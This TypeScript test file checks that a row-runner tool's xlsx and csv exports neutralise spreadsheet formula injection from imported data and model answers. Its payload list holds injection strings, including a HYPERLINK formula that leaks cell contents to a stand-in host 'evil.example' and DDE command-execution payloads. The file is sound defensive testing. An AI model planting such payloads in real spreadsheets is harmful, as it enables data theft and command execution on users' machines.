// No formula that came from data reaches a spreadsheet, end to end: a CSV whose cells (and a header)
// start with =, +, -, @, tab or CR goes through a real run against the simulator, whose answers start
// with the same characters; the run is exported to xlsx and csv, and both are read back: the
// workbook's XML holds no formula element and every cell is the text that went in; every CSV cell
// that a spreadsheet would evaluate carries the leading quote, and plain numbers are left alone.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { parse as parseCsv } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createRunService, type RunService } from './runs/service.ts';
import { startSimulator, type Simulator } from './simulator/index.ts';
import { unzip } from './testing/zip.ts';

const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '-1+cmd|"/c calc"!A1',
  '=1+1\n=2+2',
];
/** Values that start with + or - and are plain numbers: no quote. */
const NUMBERS = ['-1', '+44', '-3.5e2'];
/** What each output column answers, whatever the row: the tool's `const`s. */
const OUTPUTS: Record<string, string> = { eq: '=2*3', plus: '+2*3', minus: '-2*3', at: '@A1', tab: '\t=2*3', cr: '\r=2*3' };
const FORMULA_START = /^[=+\-@\t\r]/;

let sim: Simulator;
let dir: string;
let svc: RunService;

beforeAll(async () => {
  sim = await startSimulator({ latencyMs: 0 });
  dir = fs.mkdtempSync(path.join(os.tmpdir(), 'rr-formula-'));
  svc = createRunService({ dbPath: path.join(dir, 'rowrunner.db'), apiKey: () => 'sk-test' });
});

afterAll(async () => {
  await svc?.close();
  await sim?.close();
  fs.rmSync(dir, { recursive: true, force: true });
});

describe('exported spreadsheets hold no formula that came from data', () => {
  it('a CSV and model answers starting with = + - @ tab CR, through a run, to xlsx and csv', async () => {
    const quote = (v: string) => `"${v.replaceAll('"', '""')}"`;
    const cells = [...PAYLOADS, ...NUMBERS];
    const csv = path.join(dir, 'hostile.csv');
    fs.writeFileSync(csv, `id,${quote('=HEADER()')},cell\n${cells.map((c, i) => `${i},${quote(c)},${quote(c)}`).join('\n')}\n`);
    const ds = await svc.importDataset(csv);
    expect(ds.columns).toEqual(['id', '=HEADER()', 'cell']);
    expect(svc.datasetRows(ds.id, 0, 100).map((r) => r[2])).toEqual(cells);

    const properties = Object.fromEntries(Object.entries(OUTPUTS).map(([k, v]) => [k, { type: 'string', const: v }]));
    const run = svc.createRun({
      datasetId: ds.id,
      agent: {
        name: 'hostile',
        model: 'gpt-4o-mini',
        baseURL: sim.url,
        prompt: 'Repeat: {{cell}}',
        tools: [{ name: 'answer', parameters: { type: 'object', properties, required: Object.keys(OUTPUTS) } }],
        doneIfTool: true,
        output: { ...Object.fromEntries(Object.keys(OUTPUTS).map((k) => [k, k])), text: 'content' },
      },
    });
    svc.start(run.runId);
    const info = await svc.finished(run.runId);
    expect(info.totals).toMatchObject({ done: cells.length, failed: 0 });
    const first = svc.itemsPage({ runId: run.runId, offset: 0, limit: 1 }).rows[0];
    expect(first.output).toMatchObject(OUTPUTS);

    const xlsx = path.join(dir, 'hostile.xlsx');
    const csvOut = path.join(dir, 'hostile.csv.out.csv');
    await svc.exportRun(run.runId, xlsx);
    await svc.exportRun(run.runId, csvOut);

    // xlsx, as bytes: no formula element in any sheet, and no cell typed as an error.
    const parts = unzip(xlsx);
    const sheets = [...parts.keys()].filter((n) => /^xl\/worksheets\/.*\.xml$/.test(n));
    expect(sheets.length).toBe(2);
    for (const name of sheets) {
      const xml = parts.get(name)!.toString('utf8');
      expect(xml, name).not.toMatch(/<f[\s>/]/);
      expect(xml, name).not.toMatch(/\bt="e"/);
    }
    expect([...parts.keys()].some((n) => /externalLink|vbaProject|connections/.test(n))).toBe(false);

    // xlsx, as a spreadsheet app reads it: every cell text, as it went in (a CR becomes a line break).
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(xlsx);
    wb.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.type, `${sheet.name}!${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula, `${sheet.name}!${cell.address}`).toBeUndefined();
        }),
      ),
    );
    const results = wb.getWorksheet('Results')!;
    const header = (results.getRow(1).values as unknown[]).slice(1);
    expect(header.slice(0, 3)).toEqual(['id', '=HEADER()', 'cell']);
    cells.forEach((c, i) => {
      const row = results.getRow(i + 2);
      for (const col of [2, 3]) {
        expect(row.getCell(col).type).toBe(ExcelJS.ValueType.String);
        expect(row.getCell(col).value).toBe(c.replace(/\r\n?/g, '\n'));
      }
      for (const [k, v] of Object.entries(OUTPUTS)) {
        const cell = row.getCell(header.indexOf(k) + 1);
        expect(cell.type, k).toBe(ExcelJS.ValueType.String);
        expect(cell.value, k).toBe(v.replace(/\r/g, '\n'));
      }
    });

    // csv: a cell a spreadsheet would evaluate starts with a quote; the rest is the value.
    const rows = parseCsv(fs.readFileSync(csvOut), { bom: true }) as string[][];
    expect(rows[0].slice(0, 3)).toEqual(['id', "'=HEADER()", 'cell']);
    let guarded = 0;
    rows.slice(1).forEach((row, i) => {
      const values = [row[1], row[2], ...Object.keys(OUTPUTS).map((k) => row[rows[0].indexOf(k)])];
      const originals = [cells[i], cells[i], ...Object.values(OUTPUTS)];
      values.forEach((v, j) => {
        const original = originals[j];
        if (NUMBERS.includes(original)) {
          expect(v).toBe(original);
        } else if (FORMULA_START.test(original)) {
          expect(v).toBe(`'${original}`);
          guarded++;
        }
      });
      for (const v of row) {
        if (FORMULA_START.test(v)) expect(NUMBERS.includes(v) || /^-?\d+(\.\d+)?(e-?\d+)?$/i.test(v), `unguarded cell ${JSON.stringify(v)}`).toBe(true);
      }
    });
    expect(guarded).toBe(PAYLOADS.length * 2 + cells.length * Object.keys(OUTPUTS).length);
  });
});
